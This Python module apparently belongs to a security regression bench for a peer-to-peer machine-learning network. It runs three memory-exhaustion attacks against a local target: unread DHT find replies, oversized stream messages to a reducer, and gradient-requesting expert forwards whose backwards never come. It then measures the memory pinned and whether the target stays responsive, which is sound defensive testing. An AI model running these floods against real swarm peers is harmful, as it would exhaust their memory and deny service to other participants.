"""Memory a peer can pin once it is in, each bounded per peer and in total: answers it asks for and
never reads, a stream message larger than its receiver accepts, and the autograd graphs of forwards
whose backwards never come."""

from __future__ import annotations

import contextlib
import os
import time

import torch
import trio

from dht.records import key_id, pack
from moe.protocol import pack_tensors
from peer import Identity, PeerAddress, open_peer_host
from peer.rpc_protocol import STREAM_WINDOW, unpackb

from .attacker import RawPeer, close_all
from .bench import EXPERT_UID, EXPERT_WIDTH, Bench, Outcome
from .target import MIB, RUN_ID, MemoryWatch, legit_ping

UNARY, DATA, OPEN, ERROR, RESULT = 7, 2, 1, 4, 8
VALUE = 65_000  # just under the DHT's 64 KiB value limit


async def _store_dictionary(address: PeerAddress, key: bytes, nbytes: int) -> int:
    """Subkeys of ~64 KiB under ``key`` until the dictionary holds ``nbytes``: what a find of
    ``key`` then answers. Returns the bytes stored."""
    stored, expiration = 0, time.time() + 600
    async with open_peer_host(Identity.generate(), listen=None, run_id=RUN_ID) as writer:
        connection = await writer.connect(address)
        for first in range(0, nbytes // VALUE, 12):  # 12 records per store (the request limit)
            count = min(12, nbytes // VALUE - first)
            body = [[key, pack(f"s{first + i}"), pack(os.urandom(VALUE)), expiration] for i in range(count)]
            reply = await connection.call("dht.store", body, timeout=30)
            stored += VALUE * sum(ok is True for ok in reply.body) if isinstance(reply.body, list) else 0
    return stored


async def unread_replies(bench: Bench, out: Outcome) -> None:
    """40 finds of a 15 MiB dictionary over one connection, none of the answers read (the issue's
    attack: +300 MB until the connection was cut); then the attacker reads, to count what it got."""
    s = bench.settings
    target = await bench.bootstrap()
    address = PeerAddress(target.address.host, target.address.port)
    key = pack(f"{RUN_ID}.pins.dictionary")
    stored = await _store_dictionary(address, key, s.memory.unread_value)  # before the watch: the store's own cost
    peer = await RawPeer.connect(target.address)
    counts = {"results": 0, "busy": 0, "other": 0}
    try:
        async with bench.watch(target, out) as memory:
            body = [key_id(key).to_bytes(20, "big"), key]
            for call_id in range(1, 2 * s.memory.unread_calls, 2):
                await peer.send([UNARY, call_id, "dht.find", None, body, 0])
            await trio.sleep(s.hold_s)  # nothing read meanwhile: the answers wait at the target
            memory.sample()
            held = (memory.last_kb - memory.baseline_kb) / 1024
            if await legit_ping(target.address) is None:
                out.degraded = True
                out.notes.append("legit ping failed while answers were unread")
            closed = await _read_answers(peer, s.memory.unread_calls, counts)
    finally:
        await close_all([peer])
    out.notes.append(
        f"{s.memory.unread_calls} finds of a {stored / MIB:.0f} MiB dictionary unread for {s.hold_s:.0f} s "
        f"(rss held +{held:.0f} MiB); then read: {counts['results']} answers, {counts['busy']} Busy, "
        f"{counts['other']} other, {s.memory.unread_calls - sum(counts.values())} missing"
    )
    if closed:
        out.notes.append("the target closed the connection")
    elif counts["results"] == 0:  # the attack did not reach the finds' answers
        out.notes.append("no answer came back: the attack did not reach the reply queue")


async def _read_answers(peer: RawPeer, calls: int, counts: dict[str, int]) -> bool:
    """Read the answers to ``calls`` unary calls, counted by kind; True if the target closed the
    connection first."""
    try:
        with trio.move_on_after(30):
            while sum(counts.values()) < calls:
                header = unpackb(await peer.channel.receive_record())
                kind = header[0] if isinstance(header, list) and header else None
                if kind == RESULT:
                    counts["results"] += 1
                    received = 0
                    while received < header[3]:
                        received += len(await peer.channel.receive_record())
                elif kind == ERROR and header[2] == "Busy":
                    counts["busy"] += 1
                else:
                    counts["other"] += 1
    except (trio.EndOfChannel, trio.BrokenResourceError, trio.ClosedResourceError, OSError):
        return True
    return False


async def oversized_message(bench: Bench, out: Outcome) -> None:
    """Streams to a training peer's reducer, each opened by one message larger than the reducer
    accepts (64 MiB), sent whole into the empty window (the issue's attack: four of 250 MiB unread
    on live streams held +514 MB); what the target answers on each."""
    s = bench.settings
    target = await bench.training()
    await bench.wait_for_progress(target, out)
    peers: list[RawPeer] = []
    async with bench.watch(target, out) as memory:
        try:
            async with trio.open_nursery() as readers:

                async def oversize() -> None:
                    try:
                        await oversize_once()
                    except (OSError, trio.BrokenResourceError, trio.ClosedResourceError):
                        pass  # the target closed the connection: counted below, as it no longer answers

                async def oversize_once() -> None:
                    peer = await RawPeer.connect(target.address)
                    peers.append(peer)
                    readers.start_soon(peer.read_replies)
                    await peer.send([OPEN, 1, "avg.reduce", None, STREAM_WINDOW])
                    session = {"group_id": b"\x01" * 16, "weight": 1.0, "total": 1}
                    await peer.send([DATA, 1, session, s.memory.oversized_payload])
                    await peer.send_payload(s.memory.oversized_payload, memory)

                async with trio.open_nursery() as nursery:
                    for _ in range(s.memory.oversized_streams):
                        nursery.start_soon(oversize)
                await trio.sleep(min(s.hold_s, 1.5))  # within the reducer's 5 s wait for its session
                if await legit_ping(target.address) is None:
                    out.degraded = True
                    out.notes.append("legit ping failed during the oversized messages")
                for peer in peers:  # the connections serve on: a ping over each
                    with contextlib.suppress(OSError, trio.BrokenResourceError, trio.ClosedResourceError):
                        await peer.send([UNARY, 3, "peer.ping", None, None, 0])
                await trio.sleep(0.5)
                readers.cancel_scope.cancel()
        finally:
            await close_all(peers)
    refused = sum(any(_is(r, ERROR, "MessageTooLarge") for r in peer.received) for peer in peers)
    pinged = sum(any(_is(r, RESULT) and r[1] == 3 for r in peer.received) for peer in peers)
    out.notes.append(
        f"{len(peers)} streams x one {s.memory.oversized_payload // MIB} MiB message into an empty window: "
        f"{refused} refused MessageTooLarge, {pinged} connections still answer a ping"
    )
    if pinged < len(peers):
        out.notes.append(f"{len(peers) - pinged} connections lost (the call, not the connection, should end)")


def _is(reply, kind: int, name: str | None = None) -> bool:
    return isinstance(reply, list) and len(reply) >= 3 and reply[0] == kind and (name is None or reply[2] == name)


async def kept_graphs(bench: Bench, out: Outcome) -> None:
    """Forwards to an expert that ask for gradients and whose backwards never come (the issue's
    attack: 32 of 4096 x 256 held +1.3 GB, each forward's graph kept): one at a time, so each is
    computed alone and its graph is one the server may keep.

    The target first serves forwards of the same shape that keep no graph, as an expert server of
    the swarm does, and the attack's growth is counted from there: a forward's own working set, and
    what the allocator keeps of it, are the cost of serving that shape at all (measured, and noted:
    a fresh target grew by ~120 MiB for honest forwards alone), not memory the attacker pinned."""
    s = bench.settings.memory
    target = await bench.experts()
    address = PeerAddress(target.address.host, target.address.port)
    async with open_peer_host(Identity.generate(), listen=None, run_id=RUN_ID) as attacker:
        connection = await attacker.connect(address)
        warm = MemoryWatch(target.pid)
        honest, _ = await _forwards(connection, range(HONEST_FORWARDS), s.graph_batch, grad=False, memory=warm)
        warm.sample()
        async with bench.watch(target, out) as memory:
            tokens = range(s.graph_forwards)
            answered, failed = await _forwards(connection, tokens, s.graph_batch, grad=True, memory=memory)
            memory.sample()
            held = (memory.last_kb - memory.baseline_kb) / 1024
    graph_mib = 40 * EXPERT_WIDTH * s.graph_batch / MIB  # an FFN's graph (moe/saved_graphs.py's tests)
    out.notes.append(
        f"first {honest} honest forwards of {s.graph_batch} x {EXPERT_WIDTH} (no gradients): +{warm.growth_mb:.0f} MiB "
        f"from the fresh target; then {s.graph_forwards} asking for gradients (a graph each: {graph_mib:.0f} MiB), "
        f"no backward: {answered} answered, {len(failed)} failed {sorted(set(failed))}; rss held +{held:.0f} MiB"
    )
    if answered == 0:
        out.notes.append("no forward was answered: the attack did not reach the expert")


HONEST_FORWARDS = 8


async def _forwards(connection, tokens: range, batch: int, *, grad: bool, memory: MemoryWatch) -> tuple[int, list]:
    """One forward of ``batch`` x ``EXPERT_WIDTH`` per token, each awaited before the next (so it is
    computed alone): (answered, names of the errors of those that failed)."""
    headers, payload = pack_tensors([torch.randn(batch, EXPERT_WIDTH)])
    answered, failed = 0, []
    for token in tokens:
        memory.sample()
        if memory.over_safety_limit:
            break
        body = {"uid": EXPERT_UID, "tensors": headers, "grad": grad, "token": token}
        try:
            reply = await connection.call("moe.forward", body, payload=payload, timeout=60)
            answered += reply.body["tensors"][0]["shape"] == [batch, EXPERT_WIDTH]
        except Exception as error:  # refused or failed: counted, the attack goes on
            failed.append(type(error).__name__)
    return answered, failed
